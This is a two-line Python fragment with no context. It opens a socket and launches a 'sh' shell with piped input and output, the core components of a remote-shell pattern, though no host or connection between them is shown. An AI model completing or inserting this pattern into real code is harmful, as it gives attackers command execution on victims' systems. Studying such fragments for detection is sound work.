s=socket.socket()
subprocess.Popen(["sh"], stdin=PIPE, stdout=PIPE)
